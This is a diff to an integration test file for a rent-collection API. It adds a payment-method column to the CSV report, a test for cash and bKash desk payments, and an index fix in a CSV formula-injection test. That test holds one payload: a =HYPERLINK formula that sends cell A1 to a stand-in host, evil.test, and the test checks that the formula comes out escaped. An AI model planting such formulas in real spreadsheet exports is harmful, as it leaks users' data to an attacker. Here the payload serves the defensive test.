@@ -1,7 +1,7 @@
 /** Receipts, the audit log and the rent-collection report, through the real HTTP stack. */
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { startTestApi, type TestApi } from '../../support/api.ts';
-import { monthsAgo, thisMonth } from '../../support/months.ts';
+import { monthsAgo, thisMonth, today } from '../../support/months.ts';
 import { formatMonth } from '../../../domain/shared/month.ts';
 
 const CARD = { number: '4242424242424242', expMonth: 12, expYear: 2099, cvc: '123' };
@@ -219,15 +219,91 @@ describe('rent collection', () => {
       expect(lines.slice(0, 3)).toEqual([
         `Month,${formatMonth(thisMonth())}`,
         '',
-        'Member,Email,Block,Floor,Apartment,Rent due (BDT),Paid,Amount paid (BDT),Paid on',
+        'Member,Email,Block,Floor,Apartment,Rent due (BDT),Paid,Amount paid (BDT),Paid on,Method',
       ]);
       const dataRows = lines.slice(3, 6).map((l) => l.split(','));
+      expect(dataRows.map((r) => r[9]).sort()).toEqual(['', 'card', 'card']);
       expect(dataRows.map((r) => r[6]).sort()).toEqual(['no', 'yes', 'yes']);
       expect(dataRows.find((r) => r[6] === 'no')![7]).toBe('0');
       expect(lines).toContain(`Expected (BDT),${expected}`);
       expect(lines).toContain(`Collected (BDT),${rent1 * 0.9 + rent2}`);
       expect(lines).toContain(`Outstanding (BDT),${unpaid.rentDue}`);
       expect((await own.call('GET', '/api/admin/rent-collection?month=soon', { token: boss })).status).toBe(400);
+    } finally {
+      await own.close();
+    }
+  });
+
+  it('counts rent paid at the desk as the books show it: paid in cash, part paid by bKash', async () => {
+    const own = await startTestApi();
+    try {
+      const boss = await own.admin('desk-collector');
+      const cash = await own.member('desk-cash');
+      const half = await own.member('desk-half');
+      const leaseOf = async (token: string) =>
+        (await own.call('GET', '/api/agreements/user', { token })).body as {
+          _id: string;
+          userEmail: string;
+          rent: number;
+        };
+      const [cashLease, halfLease] = [await leaseOf(cash), await leaseOf(half)];
+      const record = (leaseId: string, body: object) =>
+        own.call('POST', `/api/admin/books/${leaseId}/payments`, { token: boss, body });
+      const paidCash = await record(cashLease._id, { amount: cashLease.rent, paidOn: today(), method: 'cash' });
+      expect(paidCash.status).toBe(201);
+      const paidHalf = await record(halfLease._id, {
+        amount: halfLease.rent / 2,
+        paidOn: today(),
+        method: 'bkash',
+        reference: 'BK-HALF-1',
+      });
+      expect(paidHalf.status).toBe(201);
+
+      const report = await own.call('GET', `/api/admin/rent-collection?month=${thisMonth()}`, { token: boss });
+      expect(report.status).toBe(200);
+      const rowOf = (email: string) =>
+        report.body.rows.find((r: { memberEmail: string }) => r.memberEmail === email) as Record<string, unknown>;
+      expect(rowOf(cashLease.userEmail)).toMatchObject({
+        paid: true,
+        state: 'paid',
+        amountPaid: cashLease.rent,
+        method: 'cash',
+        paidOn: today(),
+        receiptNumber: paidCash.body.receiptNumber,
+      });
+      expect(rowOf(halfLease.userEmail)).toMatchObject({
+        paid: false,
+        state: 'part-paid',
+        amountPaid: halfLease.rent / 2,
+        method: 'bkash',
+        paidOn: today(),
+        receiptNumber: paidHalf.body.receiptNumber,
+      });
+      // The row's receipt is the recorded payment's.
+      const receipt = await own.call('GET', `/api/payments/receipts/${rowOf(cashLease.userEmail).receiptNumber}`, {
+        token: boss,
+      });
+      expect(receipt.body).toMatchObject({ method: 'cash', totalPaid: cashLease.rent });
+      expect(report.body.totals).toEqual({
+        members: 2,
+        paidMembers: 1,
+        expected: cashLease.rent + halfLease.rent,
+        collected: cashLease.rent + halfLease.rent / 2,
+        outstanding: halfLease.rent / 2,
+        collectionRate:
+          Math.round(((cashLease.rent + halfLease.rent / 2) / (cashLease.rent + halfLease.rent)) * 10_000) / 100,
+      });
+
+      const csv = await fetch(`${own.url}/api/admin/rent-collection/csv?month=${thisMonth()}`, {
+        headers: { authorization: `Bearer ${boss}` },
+      });
+      const lines = (await csv.text()).replace(/^\uFEFF/, '').split('\r\n');
+      expect(lines.find((l) => l.includes(cashLease.userEmail))).toMatch(
+        new RegExp(`,${cashLease.rent},yes,${cashLease.rent},${today()},cash$`),
+      );
+      expect(lines.find((l) => l.includes(halfLease.userEmail))).toMatch(
+        new RegExp(`,${halfLease.rent},no,${halfLease.rent / 2},${today()},bKash$`),
+      );
     } finally {
       await own.close();
     }
@@ -260,7 +336,7 @@ describe('CSV formula injection', () => {
       expect(row).toBeDefined();
       expect(row!.startsWith(`"'=HYPERLINK(""http://evil.test/?x=""&A1,""Pay here"")",`)).toBe(true);
       // Amounts stay plain numbers a spreadsheet can add up.
-      expect(row!.split(',').at(-4)).toMatch(/^\d+$/);
+      expect(row!.split(',').at(-5)).toMatch(/^\d+$/);
     } finally {
       await own.close();
     }
